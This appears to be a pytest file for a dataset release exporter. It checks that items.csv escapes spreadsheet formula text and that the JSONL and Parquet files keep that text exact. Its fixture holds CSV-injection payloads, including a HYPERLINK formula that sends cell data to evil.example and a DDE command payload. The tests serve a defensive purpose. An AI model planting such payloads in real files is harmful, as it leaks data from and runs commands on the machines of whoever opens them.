"""The release's items.csv escapes text a spreadsheet would run as a formula; the JSONL and Parquet keep it exact."""

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from annotation.items import services
from annotation.releases import selectors as release_selectors
from tests.factories import make_frozen_release, make_item, mcq_content

pytestmark = pytest.mark.django_db

HOSTILE = {
    "context": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "question": "-2+3+cmd|' /C calc'!A0",
    "options": ["@SUM(1+1)", "+1", "\tTabbed", "Plain; =1+2"],
}


@pytest.fixture
def hostile_release(taxonomy, lead):
    content = mcq_content()
    content["en"].update(HOSTILE)
    make_item(uid="csv-hostile", content=content, user=lead, status="accepted")
    return make_frozen_release(version="9.9.9", override_reason="test subset")


def test_items_csv_escapes_formula_cells_and_quotes_every_text_cell(hostile_release):
    files = release_selectors.release_export_files(release=hostile_release)
    text = files["items.csv"].decode("utf-8")

    rows = {row["language"]: row for row in csv.DictReader(io.StringIO(text))}

    en = rows["en"]
    assert en["context"] == "'" + HOSTILE["context"]
    assert en["question"] == "'" + HOSTILE["question"]
    assert en["options"] == json.dumps(HOSTILE["options"], ensure_ascii=False, separators=(",", ":"))
    assert rows["zh"]["question"] == "米娅最可能有什么感受？"
    assert en["revision"] == "1" and en["answer"] == "1"
    assert '"Plain; =1+2' in text.splitlines()[1]
    assert all(line.startswith('"csv-hostile",') for line in text.splitlines()[1:])


def test_json_and_parquet_files_keep_the_text_exact(hostile_release):
    files = release_selectors.release_export_files(release=hostile_release)

    (record,) = [json.loads(line) for line in files["items.en.jsonl"].decode().splitlines()]
    assert record["context"] == HOSTILE["context"] and record["question"] == HOSTILE["question"]
    assert record["options"] == HOSTILE["options"]
    table = pq.read_table(io.BytesIO(files["items.parquet"]))
    assert HOSTILE["context"] in table.column("context").to_pylist()


def test_a_cell_escaped_in_the_csv_reimports_exactly_from_the_jsonl(hostile_release):
    files = release_selectors.release_export_files(release=hostile_release)

    report = services.items_import(data=files["items.bilingual.jsonl"], user=None)

    assert report.unchanged == ["csv-hostile"]
